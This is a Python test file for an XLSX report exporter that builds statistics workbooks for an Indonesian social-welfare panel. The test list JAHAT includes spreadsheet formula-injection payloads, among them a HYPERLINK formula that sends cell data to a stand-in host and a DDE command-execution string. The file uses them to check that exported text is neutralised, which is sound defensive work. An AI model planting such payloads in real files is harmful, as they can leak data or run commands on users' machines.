"""The workbook, read back with openpyxl and recalculated on a second road (tests/reports/baca_xlsx.py)."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import datetime
from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from charts.hitungan import Hitungan
from charts.spec import Cell, Column, Table
from panels.panel import Source, Stamps
from reports.xlsx import xlsx
from reports.xlsx_rencana import TabelTidakSah
from tests.reports.baca_xlsx import ACUAN, buka, hitung, tampil
from tests.reports.panel_contoh import KOLOM, panel, tabel, tabel_acak

JAHAT = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("http://jahat.contoh/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "http://jahat.contoh",
    "mailto:a@b.contoh",
    "{=1+1}",
    "a & b < c > \"d\" 'e'",
    "_x0041_",
    "\x07bel",
)


def baris_kepala(lembar, judul="Kabupaten/kota"):
    """1-based row of the table header."""
    return next(b for b in range(1, 30) if lembar.cell(b, 1).value == judul)


def periksa_tabel(isi, t):
    """Every cell of the sheet shows what the screen shows, recalculated; hidden cells are marks."""
    lembar, awal = buka(isi)["Data"], baris_kepala(buka(isi)["Data"]) + 1
    semua = [*t.rows, *([t.total] if t.total is not None else [])]
    for b, cells in enumerate(semua):
        for k, cell in enumerate(cells):
            sel = lembar.cell(awal + b, k + 1)
            if cell.keadaan not in ("ada", "nihil") or not t.columns[k].numeric:
                assert (sel.data_type, sel.value) == ("s", cell.text)
            else:
                assert tampil(hitung(lembar, sel.coordinate), sel.number_format) == cell.text, sel.coordinate
    return lembar


def test_the_example_recalculates_to_the_screen():
    lembar = periksa_tabel(xlsx(panel()), panel().table)
    assert lembar["D7"].value == "=B7/C7*10000" and lembar["B7"].value == 312
    assert buka(xlsx(panel()), nilai=True)["Data"]["D7"].value == panel().table.rows[0][3].value


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tabel_acak())
def test_any_table_recalculates_to_the_screen(t):
    lembar = periksa_tabel(xlsx(panel(t)), t)
    for baris in lembar.iter_rows():
        for sel in baris:
            if sel.data_type == "f" and "SUM" not in sel.value:
                assert all(
                    isinstance(hitung(lembar, k + b), int | float) for _, k, b in ACUAN.findall(sel.value)
                )
            elif sel.data_type == "f":
                rentang = re.search(r"SUM\(([^)]*)\)", sel.value)[1].replace("$", "")
                isi = {s.value for baris_ in lembar[rentang] for s in baris_ if isinstance(s.value, str)}
                assert isi <= {"belum", "…"} | {i for i in isi if i.startswith("=")}


def test_the_second_road_can_fail():
    isi = panel().table
    salah = replace(isi, rows=((*isi.rows[0][:3], Cell(10.4, "10,5"), *isi.rows[0][4:]), *isi.rows[1:]))
    with pytest.raises(AssertionError):
        periksa_tabel(xlsx(panel()), salah)


def test_four_kinds_of_nothing_are_four_different_cells():
    lembar = buka(xlsx(panel()))["Data"]
    sel = [lembar["B12"], lembar["B13"], lembar["B10"], lembar["E11"]]
    assert [s.value for s in sel] == [0, "…", "*", "belum"]
    assert tampil(0, sel[0].number_format) == "–"
    assert len({s.fill.fgColor.rgb for s in sel}) == 4
    legenda = {lembar.cell(b, 1).value: lembar.cell(b, 1).fill.fgColor.rgb for b in range(16, 25)}
    assert [legenda[t] for t in ("–", "…", "*", "belum")] == [s.fill.fgColor.rgb for s in sel]


@pytest.mark.parametrize("teks", JAHAT)
def test_no_text_becomes_a_formula_or_a_link(teks):
    kolom = (Column("a", teks), Column("b", "B " + teks, numeric=True))
    t = Table(
        kolom, ((Cell(teks, teks), Cell(None, teks)), (Cell(teks, teks), Cell(1, "1"))), None, (teks, "x")
    )
    p = panel(
        t,
        title=teks,
        unit=teks,
        period=teks,
        alt=teks,
        state=teks,
        notes=(teks,),
        sentences=(teks,),
        sources=(Source(teks, teks, teks, teks, teks),),
        stamps=Stamps(teks, cakupan=teks, penyebut=teks),
    )
    isi = xlsx(p)
    for lembar in buka(isi).worksheets:
        jenis = {sel.data_type for baris in lembar.iter_rows() for sel in baris if sel.value is not None}
        assert jenis <= {"s", "n"} and not lembar._hyperlinks
    with zipfile.ZipFile(BytesIO(isi)) as zip_:
        semua = b"".join(zip_.read(n) for n in zip_.namelist())
        assert b"<f>" not in semua and b"TargetMode" not in semua and b"externalLink" not in semua


def test_dangerous_text_keeps_its_quote_prefix_when_edited():
    t = Table((Column("a", "A"),), ((Cell("=1+1", "=1+1"),), (Cell("biasa", "biasa"),)))
    lembar = buka(xlsx(panel(t)))["Data"]
    awal = baris_kepala(lembar, "A") + 1
    assert [lembar.cell(awal + i, 1).quotePrefix for i in (0, 1)] == [True, False]


def test_hidden_numbers_are_nowhere_in_the_file():
    t = tabel(terdata=(312, 1_204, 87, "*", 655, 0, None))
    baris = (*t.rows[3][:1], Cell(3.14159, "*", "disamarkan"), *t.rows[3][2:])
    with zipfile.ZipFile(BytesIO(xlsx(panel(replace(t, rows=(*t.rows[:3], baris, *t.rows[4:])))))) as zip_:
        assert not [n for n in zip_.namelist() if b"3.14159" in zip_.read(n)]


def test_same_panel_same_bytes_and_no_clock():
    kapan = datetime(2026, 11, 21, 9, 30)
    assert xlsx(panel(), dibuat=kapan) == xlsx(panel(), dibuat=kapan)
    assert xlsx(panel()) == xlsx(panel()) != xlsx(panel(), dibuat=kapan)
    assert buka(xlsx(panel(), dibuat=kapan)).properties.created == kapan
    assert buka(xlsx(panel())).properties.created == datetime(1980, 1, 1)


def metadata(p, **lain):
    lembar = buka(xlsx(p, **lain))["Metadata"]
    return [(b[0].value, b[1].value) for b in lembar.iter_rows(max_col=2) if b[0].value is not None]


def test_metadata_carries_everything_about_the_panel():
    isi = metadata(panel(), dibuat=datetime(2026, 11, 21, 9, 5))
    for pasangan in (
        ("Judul", panel().title),
        ("Satuan", "jiwa"),
        ("Periode", "2025"),
        ("Edisi data", "kaltim-2026-11"),
        ("Audiens", "Publik"),
        ("Asal data", "Data resmi dan data contoh"),
        ("Cakupan", "6 dari 7 wilayah"),
        ("Penyebut", "Register Dukcapil 2025 Semester I"),
        ("Keadaan tampilan (URL)", panel().state),
        ("Berkas dibuat", "21 November 2026 pukul 09.05"),
        ("Kalimat 1", panel().sentences[0]),
        ("Catatan 1", panel().notes[0]),
        ("Sumber 2: alamat", panel().sources[1].url),
        ("Sumber 2: lisensi", "bebas pakai dengan menyebut sumber"),
        ("Sumber 2: keandalan", "tinggi"),
        ("…", "data tidak tersedia"),
    ):
        assert pasangan in isi
    kolom = dict(isi)
    assert kolom["Angka"].endswith("dihitung: Terdata ÷ Penduduk × 10.000")
    assert kolom["Perubahan relatif"].endswith("dihitung: (Terdata − Terdata 2024) ÷ Terdata 2024 × 100")
    assert kolom["Porsi dari provinsi"].endswith("dihitung: Terdata ÷ total Terdata × 100")


def test_several_definitions_get_a_row_each_and_one_stays_whole():
    isi = metadata(
        panel(definition="Anak Jalanan: Anak di jalan.\nPengemis: Orang yang meminta: di mana pun.")
    )
    assert ("Anak Jalanan", "Anak di jalan.") in isi and (
        "Pengemis",
        "Orang yang meminta: di mana pun.",
    ) in isi
    assert ("Definisi", None) in isi and "Definisi" not in dict(isi[: isi.index(("Definisi", None))])
    for satu in ("Anak di jalan: semua umur.", "select a\nfrom b -- x: y", "Tanpa nama\nKedua: arti"):
        assert ("Definisi", satu) in metadata(panel(definition=satu))


def test_no_row_is_taller_than_excel_allows():
    lembar = buka(xlsx(panel(definition="satu baris\n" * 200)))["Metadata"]
    tinggi = [satu.height for satu in lembar.row_dimensions.values() if satu.height]
    assert 400 < max(tinggi) <= 409 and min(tinggi) < 30


def test_a_year_is_a_number_without_thousands_separator():
    kolom = (Column("tahun", "Tahun", numeric=True, satuan="tahun"), Column("n", "Nilai", numeric=True))
    isi = Table(kolom, ((Cell(2024.0, "2024"), Cell(2024.0, "2.024")),))
    baris = list(buka(xlsx(panel(table=isi)))["Data"].iter_rows())
    dua = next(b for b in baris if b[0].value == 2024)
    assert [tampil(satu.value, satu.number_format) for satu in dua[1:2]] == ["2.024"]
    assert dua[0].number_format.split(";")[0] == "0" and dua[0].data_type == "n"


@pytest.mark.parametrize(
    ("stempel", "tanda", "bukan"),
    [
        (Stamps("e", contoh=True), ["DATA CONTOH"], ["INTERNAL", "LEMBAR"]),
        (Stamps("e", audiens="internal"), ["INTERNAL"], ["CONTOH"]),
        (Stamps("e", contoh=True, audiens="lembar"), ["DATA CONTOH", "LEMBAR KADINSOS"], ["INTERNAL"]),
        (Stamps("e"), [], ["DATA CONTOH", "INTERNAL", "LEMBAR"]),
    ],
)
def test_stamps_stand_on_both_sheets_in_print_and_in_properties(stempel, tanda, bukan):
    buku = buka(xlsx(panel(stamps=stempel, sources=())))
    for lembar in buku.worksheets:
        teks = " ".join(str(s.value) for b in lembar.iter_rows() for s in b)
        assert all(t in teks for t in tanda) and not any(t in teks for t in bukan)
    cetak = str(buku["Data"].oddHeader.right.text) + str(buku.properties.title)
    assert all(cetak.count(t) == 2 for t in tanda) and not any(t in cetak for t in bukan)


def test_sheet_is_ready_to_read_filter_and_print():
    lembar = buka(xlsx(panel()))["Data"]
    assert buka(xlsx(panel())).sheetnames == ["Data", "Metadata"]
    assert lembar.freeze_panes == "B7" and lembar.auto_filter.ref == "A6:I13"
    assert (lembar.page_setup.paperSize, lembar.page_setup.orientation) == (9, "landscape")
    # one page wide (fitToWidth 1 is the default and not written), as many high as it takes
    assert lembar.sheet_properties.pageSetUpPr.fitToPage and lembar.page_setup.fitToHeight == 0
    assert lembar.print_title_rows == "$6:$6"
    assert (
        "Sumber: Data contoh" in lembar.oddFooter.left.text
        and "kaltim-2026-11" in lembar.oddFooter.right.text
    )
    assert buka(xlsx(panel())).properties.creator == "Serambi"


def test_a_table_of_two_pages_puts_its_texts_beside_the_repeated_column_and_on_the_first_page():
    kolom = (Column("w", "Wilayah"), *(Column(f"k{i}", f"Jenis {i}", numeric=True) for i in range(40)))
    lembar = buka(xlsx(panel(Table(kolom, ((Cell("Paser", "Paser"), *(Cell(1, "1"),) * 40),)))))["Data"]
    assert (lembar.print_title_cols, lembar.page_setup.fitToWidth) == ("$A:$A", 2)
    tabel_ = {baris_kepala(lembar, "Wilayah"), baris_kepala(lembar, "Wilayah") + 1}
    beside = [s for b in lembar.iter_rows(max_col=1) for s in b if s.value is not None]
    assert {s.row for s in beside} == tabel_, (
        "page two would print the clipped beginning of any other text again"
    )
    assert lembar["B1"].value == panel().title
    merged = [m for m in lembar.merged_cells.ranges if m.min_row not in tabel_]
    assert merged and all(m.min_col == 2 and m.max_col <= 21 for m in merged)


def test_a_matrix_reads_its_shares_from_the_sheet_of_numerators():
    def satu(nilai, teks, *masukan, jenis="rasio", faktor=100.0):
        names = (("Tertangani", 0), ("Terdata", 0), ("Tertangani provinsi", 0), ("Terdata provinsi", 0))
        pairs = tuple((name, x) for (name, _), x in zip(names, masukan))
        return Cell(nilai, teks, hitungan=Hitungan(jenis, pairs, faktor))

    kolom = (Column("j", "Jenis"), *(Column(k, k, numeric=True, desimal=1, satuan="persen") for k in "ab"))
    baris = (
        (Cell("Lansia", "Lansia"), satu(75.0, "75,0", 3, 4), satu(3 / 7 * 100, "42,9", 3, 7)),
        (Cell("ADK", "ADK"), Cell(None, "*", "disamarkan"), satu(12.5, "12,5", 9, 8, jenis="selisih_persen")),
        (Cell("LQ", "LQ"), satu(1.5, "1,5", 3, 4, 5, 10, jenis="banding_porsi"), satu(9.0, "9,0", 1, 0)),
    )
    p = panel(Table(kolom, baris))
    buku = buka(xlsx(p))
    data, angka = buku["Data"], buku["Hitungan"]
    awal = baris_kepala(data, "Jenis") + 1
    sel = {(b, k): data.cell(awal + b, k + 2) for b in range(3) for k in range(2)}
    assert [sel[b, k].data_type for b, k in sel] == ["f", "f", "s", "f", "f", "n"], (
        "no formula divides by zero"
    )
    for (b, k), one in sel.items():
        if one.data_type == "f":
            assert tampil(hitung(data, one.coordinate), one.number_format) == baris[b][k + 1].text
    assert [angka.cell(4, k).value for k in (1, 2, 3, 4, 5)] == [sel[0, 0].coordinate, "Lansia", "a", 3, 4]
    assert angka.cell(3, 4).value == "Tertangani" and angka.max_row == 3 + 4
    kata = dict(metadata(p))
    assert "dihitung: Tertangani ÷ Terdata × 100" in kata["a"]
    assert "Tertangani ÷ Terdata) ÷ (Tertangani provinsi ÷ Terdata provinsi" in kata["a"]


def test_the_sheet_of_numerators_carries_the_stamps_and_is_made_only_when_needed():
    isi = Cell(75.0, "75,0", hitungan=Hitungan("rasio", (("a", 3), ("b", 4)), 100))
    t = Table((Column("j", "Jenis"), Column("a", "A", True, 1)), ((Cell("x", "x"), isi),))
    buku = buka(xlsx(panel(t, stamps=Stamps("e", contoh=True, audiens="internal"))))
    teks = " ".join(str(s.value) for b in buku["Hitungan"].iter_rows() for s in b)
    assert "DATA CONTOH" in teks and "INTERNAL" in teks
    assert "Hitungan" not in buka(xlsx(panel())).sheetnames


def test_long_titles_ampersands_and_few_columns_fit():
    t = Table(KOLOM[:1], ((Cell("Paser", "Paser"),),))
    judul = "Gelandangan & pengemis && " * 30
    isi = xlsx(panel(t, title=judul, sources=(Source("S", "A & B " * 80, "", "", ""),)))
    with zipfile.ZipFile(BytesIO(isi)) as zip_:
        lembar = zip_.read("xl/worksheets/sheet1.xml").decode()
    for tag in ("oddHeader", "oddFooter"):
        kode = lembar.split(f"<{tag}>")[1].split(f"</{tag}>")[0].replace("&amp;", "&")
        assert 20 < len(kode) <= 255
        assert "&" not in kode.replace("&&", "").replace("&L", "").replace("&R", "").replace(
            "&P", ""
        ).replace("&N", "")
    assert buka(isi)["Data"].row_dimensions[1].height > 60


def test_an_empty_table_is_still_a_workbook():
    lembar = buka(xlsx(panel(Table(KOLOM, ()), notes=())))["Data"]
    assert lembar.cell(baris_kepala(lembar), 2).value == "Terdata (jiwa)"


def test_equal_titles_are_told_apart():
    t = Table((Column("a", "Jumlah", True), Column("b", "Jumlah", True)), ((Cell(1, "1"), Cell(2, "2")),))
    lembar = buka(xlsx(panel(t)))["Data"]
    baris = baris_kepala(lembar, "Jumlah [a]")
    assert lembar.cell(baris, 2).value == "Jumlah [b]"


def test_a_text_that_no_cell_can_hold_is_refused():
    with pytest.raises(TabelTidakSah, match="lebih panjang"):
        xlsx(panel(notes=("x" * 32_768,)))


@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(exclude_categories=("C", "Zl", "Zp")), min_size=1, max_size=60))
def test_any_text_comes_back_as_the_text_it_was(teks):
    lembar = buka(xlsx(panel(Table((Column("a", "A"),), ((Cell(teks, teks),),)))))["Data"]
    sel = lembar.cell(baris_kepala(lembar, "A") + 1, 1)
    assert (sel.data_type, sel.value) == ("s", teks)


def test_origin_tells_made_up_official_and_both_apart():
    contoh = replace(panel().sources[0], sumber_id="CONTOH-AWAL")
    semua = panel(sources=(contoh,))
    resmi = panel(stamps=Stamps("e"))
    assert ("Asal data", "Data contoh") in metadata(semua)
    assert ("Asal data", "Data resmi") in metadata(resmi)
    assert any("memuat data contoh" in str(baris[0]) for baris in metadata(panel()))
    assert not any("memuat data contoh" in str(baris[0]) for baris in metadata(semua))


def test_a_long_name_of_the_total_has_room_for_its_lines():
    isi = tabel()
    nama = "Provinsi Kalimantan Timur (9 dari 10 wilayah)"
    isi = replace(isi, total=(replace(isi.total[0], value=nama, text=nama), *isi.total[1:]))
    lembar = buka(xlsx(panel(isi)))["Data"]
    at = next(satu.row for satu in lembar["A"] if satu.value == nama)
    assert lembar.row_dimensions[at].height > 30, "two lines in a row of one would print over the row above"
